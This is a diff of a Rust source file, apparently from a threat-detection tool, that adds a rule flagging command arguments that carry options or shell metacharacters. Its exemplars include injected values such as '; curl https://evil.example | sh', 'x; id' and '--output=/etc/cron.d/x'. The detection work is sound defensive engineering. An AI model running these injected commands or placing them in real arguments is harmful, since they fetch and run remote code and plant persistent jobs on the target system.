@@ -1,15 +1,46 @@
 //! Lists of words that are a command, or what a program is given.
 
+use crate::catalog::types::Kind;
 use crate::risk::Role;
+use crate::threat::beside::MORE;
 use crate::threat::row::{
+    Examples,
     Exemplar::{Text, Words},
-    Row,
+    Row, Set,
 };
 use crate::threat::subject::Subject;
 
 use super::command::ROW;
+use super::recipients::whole;
+
+/// What is run, and given the list.
+const COMMANDS: &[Role] = &[Role::Program, Role::CommandLine];
 
 pub(super) const ROWS: &[Row] = &[
+    Row {
+        name: "argv.option",
+        roles: &[Role::Argv],
+        asked: is_text,
+        set: Set::Texts {
+            within: r"(?s)(\A|\s)-{1,2}[A-Za-z]|[;&|`$<>\n]",
+            less: Some(r"\A{C}\z"),
+        },
+        known: whole,
+        exemplars: &[
+            Text("--output=/etc/cron.d/x"),
+            Text("; curl https://evil.example | sh"),
+            Text("-x"),
+            Text("x | sh"),
+        ],
+        says: "may hold any options",
+        instead: Some("in [\"--verbose\"]"),
+        examples: Examples {
+            constants: &["--verbose"],
+            within: &["--output=/srv/x", "a -c é", "x; id", "--verbose -x"],
+            outside: &["--verbose", "src/a-b", "", "é"],
+        },
+        ..ROW
+    },
     Row {
         name: "argv.stranger",
         roles: &[Role::Argv],
@@ -38,10 +69,17 @@ pub(super) const ROWS: &[Row] = &[
     },
 ];
 
+/// Whether it is one text, of which a rule can say what is good.
+fn is_text(subject: &Subject<'_, '_>) -> bool {
+    !subject.found.leaf.path.is_in_list() && subject.found.leaf.argument.may_be(Kind::String)
+}
+
+/// Whether it is a list of what a command gets that stands elsewhere.
 fn has_program(subject: &Subject<'_, '_>) -> bool {
-    subject.siblings(&[Role::Program]).next().is_some()
+    let has_command = || subject.siblings(COMMANDS).next().is_some();
+    !is_text(subject) && (subject.is_called(MORE) || has_command())
 }
 
 fn is_alone(subject: &Subject<'_, '_>) -> bool {
-    !has_program(subject)
+    !is_text(subject) && !has_program(subject)
 }
